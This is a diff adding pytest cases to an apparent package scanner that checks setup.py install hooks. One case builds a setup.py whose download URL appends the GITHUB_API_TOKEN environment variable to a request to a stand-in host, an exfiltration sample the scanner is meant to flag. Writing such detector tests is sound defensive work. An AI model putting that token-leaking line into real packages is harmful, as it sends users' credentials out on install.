@@ -192,3 +192,35 @@ def test_a_scratch_file_in_temp_is_not_a_dropped_payload(
     findings = scan_path(make_sdist(tmp_path, "tool", "1.0", {"setup.py": setup}))
     worst = _worst(findings, "hook/download-exec")
     assert (worst is not None and worst >= Severity.HIGH) is blocked
+
+
+_FETCHER = (
+    "import json, os\nfrom urllib.request import Request, urlopen, urlretrieve\n"
+    "from setuptools import setup\n"
+    "def read_url(url, token=None):\n"
+    "    headers = {{'Authorization': 'Bearer ' + token}} if token else {{}}\n"
+    "    with urlopen(Request(url, headers=headers)) as res:\n"
+    "        return json.loads(res.read())\n"
+    "releases = read_url('https://api.example.invalid/releases', "
+    "token=os.environ.get('GITHUB_API_TOKEN'))\n"
+    "urlretrieve({download}, 'libs.zip')\nsetup()\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("download", "blocked"),
+    [
+        # lxml 5.1's build: the API token goes into a request header; the answer names a file
+        ("releases[0]['url']", False),
+        # the secret itself in the address of a request is sent out
+        ("'https://example.invalid/?k=' + os.environ['GITHUB_API_TOKEN']", True),
+    ],
+    ids=["response-of-a-fetcher", "secret-in-url"],
+)
+def test_a_fetchers_response_does_not_carry_what_went_into_its_request(
+    tmp_path: Path, download: str, blocked: bool
+) -> None:
+    setup = _FETCHER.format(download=download)
+    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", {"setup.py": setup}))
+    worst = _worst(findings, "hook/env-exfiltration")
+    assert (worst is not None and worst >= Severity.HIGH) is blocked
